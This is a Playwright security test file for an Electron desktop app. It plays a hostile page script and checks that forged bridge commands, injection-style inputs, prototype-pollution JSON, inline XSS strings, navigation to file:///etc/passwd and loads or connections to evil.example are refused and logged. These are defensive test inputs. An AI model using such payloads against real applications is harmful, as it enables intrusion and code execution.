import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright/test";
import type { FailureCode } from "../../src/shared/failures.ts";
import { expect, test } from "./fixtures.ts";
import { callBridge } from "./steps.ts";

/*
 * Attacks on the running window, as a hostile script in it would make them. Each is refused, the log says so by a code,
 * and the app goes on.
 */

/** What the log holds of refusals with this code, as "what was tried: what in particular". */
async function refusals(page: Page, code: FailureCode = "security/refused"): Promise<string[]> {
  const found = await callBridge(page, "logs.search", { code, limit: 200 });
  if (!found.ok) throw new Error(found.failure.code);
  return found.value.entries.map(({ data }) => `${String(data?.["kind"])}: ${String(data?.["detail"])}`);
}

/** Waits until the log holds a refusal. */
async function expectRefusal(page: Page, words: string, code?: FailureCode): Promise<void> {
  await expect
    .poll(() => refusals(page, code), { message: `the log holds "${words}"` })
    .toContainEqual(expect.stringMatching(new RegExp(`^${RegExp.escape(words)}`)));
}

/** Sends something over the bridge that its types do not allow. */
function forge(
  page: Page,
  name: string,
  input: unknown,
): Promise<{ ok: boolean; failure?: { code: string } }> {
  return page.evaluate(
    ([sentName, sentInput]) =>
      (
        globalThis as unknown as {
          onramp: {
            call(name: unknown, input: unknown): Promise<{ ok: boolean; failure?: { code: string } }>;
          };
        }
      ).onramp.call(sentName, sentInput),
    [name, input] as const,
  );
}

test.beforeEach(({ page }) => expect(page.getByRole("heading", { level: 1 })).toBeVisible());

test.afterEach(async ({ page }) => {
  // Whatever was tried: the window is where it was, and the app answers.
  expect(new URL(page.url()).pathname).toBe("/index.html");
  expect((await callBridge(page, "account.list", {})).ok).toBe(true);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});

test("the app's own page tries nothing that it is refused", async ({ page }) => {
  for (const name of ["Settings", "Insights", "Log", "Diagnostics"]) {
    await page.getByRole("button", { name, exact: true }).click();
    await page.keyboard.press("Escape");
  }
  // What came before this one is in the log by then.
  await forge(page, "last.one", {});
  await expectRefusal(page, "call: last.one", "usage/unknown-command");
  expect(await refusals(page)).toEqual([]);
});

test("a page reaches neither Node nor Electron, and cannot replace the bridge", async ({ page }) => {
  const found = await page.evaluate(() => {
    const names = [
      "require",
      "process",
      "module",
      "Buffer",
      "global",
      "electron",
      "ipcRenderer",
      "__dirname",
    ];
    const bridge = (globalThis as unknown as { onramp: Record<string, unknown> }).onramp;
    const before = bridge["call"];
    const attempts = [
      () => (bridge["call"] = () => "mine"),
      () => ((globalThis as Record<string, unknown>)["onramp"] = {}),
      () => Object.defineProperty(globalThis, "onramp", { value: {} }),
      () => delete (globalThis as Record<string, unknown>)["onramp"],
    ];
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // Refused out loud.
      }
    }
    const now = (globalThis as unknown as { onramp: Record<string, unknown> }).onramp;
    return {
      reachable: names.filter((name) => name in globalThis),
      isSame: now["call"] === before,
      members: Object.keys(now),
    };
  });
  expect(found).toEqual({ reachable: [], isSame: true, members: ["call", "subscribe"] });
});

test("a forged command, a malformed and a huge input are refused by name", async ({ page }) => {
  expect(await forge(page, "shell.run", { command: "id" })).toMatchObject({
    ok: false,
    failure: { code: "usage/unknown-command" },
  });
  await expectRefusal(page, "call: shell.run", "usage/unknown-command");

  for (const [name, input] of [
    ["sync.pause", { runId: "1; DROP TABLE runs" }],
    ["account.connect", { host: "github.com", token: { toString: "x" }, storage: "keychain" }],
    ["settings.set", { reservePercent: 20, more: true }],
    ["app.getState", null],
  ] as const) {
    const answer = await forge(page, name, input);
    expect(answer, name).toMatchObject({ ok: false, failure: { code: "usage/bad-input" } });
    await expectRefusal(page, `call: ${name}`, "usage/bad-input");
  }

  const answer = await page.evaluate(() =>
    (
      globalThis as unknown as { onramp: { call(name: string, input: unknown): Promise<unknown> } }
    ).onramp.call("logs.search", { search: "x".repeat(6 * 1024 * 1024) }),
  );
  expect(answer).toMatchObject({ ok: false, failure: { code: "security/refused" } });
  await expectRefusal(page, "call: logs.search");
});

test("an input that leads into prototypes changes nothing of the app's objects", async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const { onramp } = globalThis as unknown as {
      onramp: { call(name: string, input: unknown): Promise<{ ok: boolean }> };
    };
    const polluting = [
      '{"__proto__":{"isAdmin":true}}',
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"reservePercent":20,"__proto__":{"isAdmin":true}}',
    ].map((text) => JSON.parse(text) as unknown);
    const all: { ok: boolean }[] = [];
    for (const input of polluting) {
      all.push(await onramp.call("settings.set", input));
      all.push(await onramp.call("app.getState", input));
      all.push(await onramp.call("__proto__", input));
    }
    return all;
  });
  expect(answers.filter(({ ok }) => ok).length).toBeLessThanOrEqual(1);
  const state = await callBridge(page, "app.getState", {});
  expect(state).toMatchObject({ ok: true });
  expect(JSON.stringify(state)).not.toContain("isAdmin");
});

test("a page cannot navigate away, be replaced by a file or open a window", async ({ page, app }) => {
  const file = join(app.dataDirectory, "dropped.html");
  writeFileSync(file, "<h1>dropped</h1>");
  for (const address of [
    "https://github.com/",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
    "data:text/html,<h1>mine</h1>",
    "javascript:document.body.remove()",
    "smb://evil.example/share",
  ]) {
    await page.evaluate((target) => {
      // Later: what a debugger evaluates itself is excepted from the page's policy.
      setTimeout(() => (location.href = target), 0);
    }, address);
    // The next one would take the place of one that has not begun.
    if (address.startsWith("http")) await expectRefusal(page, `navigation: ${address}`);
  }

  await page.evaluate(() => {
    window.open("https://github.com/opened");
    Object.assign(document.createElement("a"), {
      href: "https://github.com/linked",
      target: "_blank",
    }).click();
  });
  await expectRefusal(page, "new-window: https://github.com/opened");
  await expect.poll(() => page.context().pages().length).toBe(1);

  const cdp = await page.context().newCDPSession(page);
  const data = { items: [], files: [file], dragOperationsMask: 1 };
  for (const type of ["dragEnter", "dragOver", "drop"] as const) {
    await cdp.send("Input.dispatchDragEvent", { type, x: 300, y: 300, data });
  }
  await expect(page.getByText("dropped", { exact: true })).toHaveCount(0);
});

test("a page saves no file by itself", async ({ page }) => {
  await page.evaluate(() => {
    const text = new Blob(["mine"], { type: "text/plain" });
    for (const href of [URL.createObjectURL(text), "data:text/plain,mine"])
      Object.assign(document.createElement("a"), { href, download: "autostart.desktop" }).click();
  });
  await expectRefusal(page, "download: ");
});

test("no script, frame, worker, WebAssembly or code in text runs that is not a file of the app", async ({
  page,
}) => {
  const ran = await page.evaluate(async () => {
    const outcome: Record<string, string> = {};
    const add = (tag: string, properties: object): Promise<string> =>
      new Promise((resolve) => {
        const element = Object.assign(document.createElement(tag), properties, {
          onload: () => resolve("loaded"),
          onerror: () => resolve("refused"),
        });
        document.body.append(element);
      });
    const attempt = async (name: string, run: () => unknown): Promise<void> => {
      outcome[name] = await Promise.resolve()
        .then(run)
        .then(
          () => "ran",
          () => "refused",
        );
    };

    outcome["remote script"] = await add("script", { src: "https://evil.example/attack.js" });
    outcome["Node module"] = await add("script", { type: "module", src: "node:fs" });
    outcome["data script"] = await add("script", { src: "data:text/javascript,globalThis.hasRun=1" });
    document.body.append(
      Object.assign(document.createElement("script"), { textContent: "globalThis.hasRun=2" }),
    );
    const holder = document.createElement("div");
    holder.innerHTML =
      '<img src="x:" onerror="globalThis.hasRun=3"><a href="javascript:globalThis.hasRun=4">x</a>';
    document.body.append(holder);
    holder.querySelector("a")!.click();
    document.body.append(
      Object.assign(document.createElement("iframe"), { src: "https://evil.example/frame" }),
    );
    document.body.append(
      Object.assign(document.createElement("iframe"), { srcdoc: "<script>top.hasRun=5</script>" }),
    );
    document.body.append(
      Object.assign(document.createElement("object"), { data: "https://evil.example/plugin" }),
    );
    document.body.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));

    // A timer of the page's own: what a debugger evaluates is excepted from the policy.
    await new Promise<void>((resolve) => {
      setTimeout(async () => {
        const text = "globalThis.hasRun=6";
        for (const maker of ["eval", "Function", "setTimeout"]) {
          const make = (globalThis as unknown as Record<string, (text: string) => unknown>)[maker]!;
          await attempt(maker, () => make(text));
        }
        await attempt("WebAssembly", () =>
          WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
        );
        await attempt("fetch", () => fetch("https://evil.example/"));
        await attempt(
          "worker",
          () =>
            new Promise((started, failed) => {
              const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
              worker.addEventListener("message", started);
              worker.addEventListener("error", failed);
            }),
        );
        await attempt(
          "WebSocket",
          () =>
            new Promise((opened, failed) => {
              const socket = new WebSocket("wss://evil.example/");
              socket.addEventListener("open", opened);
              socket.addEventListener("error", failed);
            }),
        );
        resolve();
      }, 0);
    });
    outcome["hasRun"] = String((globalThis as Record<string, unknown>)["hasRun"]);
    return outcome;
  });
  expect(ran).toEqual({
    "remote script": "refused",
    "Node module": "refused",
    "data script": "refused",
    eval: "refused",
    Function: "refused",
    // Says nothing, and does nothing.
    setTimeout: "ran",
    WebAssembly: "refused",
    fetch: "refused",
    worker: "refused",
    WebSocket: "refused",
    hasRun: "undefined",
  });
  for (const content of [
    "script-src-elem: https://evil.example/attack.js",
    "script-src-elem: node",
    "script-src-elem: inline",
    "script-src-attr: inline",
    "frame-src: https://evil.example",
    "object-src: https://evil.example",
    "base-uri: https://evil.example",
    "script-src: eval",
    "script-src: wasm-eval",
    "connect-src: https://evil.example",
    "worker-src: blob",
  ]) {
    await expectRefusal(page, `content: ${content}`);
  }
});

test("camera, place, notifications and reading the clipboard are denied", async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const ask = (run: () => Promise<unknown>): Promise<string> =>
      run().then(
        (value) => (typeof value === "string" ? value : "granted"),
        (error: unknown) => (error instanceof Error ? error.name : "denied"),
      );
    return {
      media: await ask(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
      geolocation: await ask(
        () => new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed)),
      ),
      notifications: await ask(() => Notification.requestPermission()),
      clipboard: await ask(() => navigator.clipboard.readText()),
    };
  });
  expect(answers.media).toMatch(/NotAllowedError|NotFoundError/);
  expect(answers.geolocation).toBe("denied");
  expect(answers.notifications).toBe("denied");
  expect(answers.clipboard).toBe("NotAllowedError");
  for (const permission of ["geolocation", "notifications", "clipboard-read"]) {
    await expectRefusal(page, `permission: ${permission}`);
  }
});

test("a page that asks ten thousand times is refused each time, and the app still answers at once", async ({
  page,
}) => {
  const codes = await page.evaluate(async () => {
    const { onramp } = globalThis as unknown as {
      onramp: { call(name: string, input: unknown): Promise<{ ok: boolean; failure?: { code: string } }> };
    };
    const counts: Record<string, number> = {};
    for (let batch = 0; batch < 20; batch += 1) {
      const answers = await Promise.all(
        Array.from({ length: 500 }, (_, index) =>
          onramp.call(index % 2 === 0 ? `forged.${index}` : "sync.pause", { runId: -index }),
        ),
      );
      for (const { ok, failure } of answers) {
        const code = ok ? "ok" : failure!.code;
        counts[code] = (counts[code] ?? 0) + 1;
      }
    }
    return counts;
  });
  expect(codes).toEqual({ "usage/unknown-command": 5_000, "usage/bad-input": 5_000 });
  expect((await refusals(page, "usage/unknown-command")).length).toBeLessThanOrEqual(60);
});
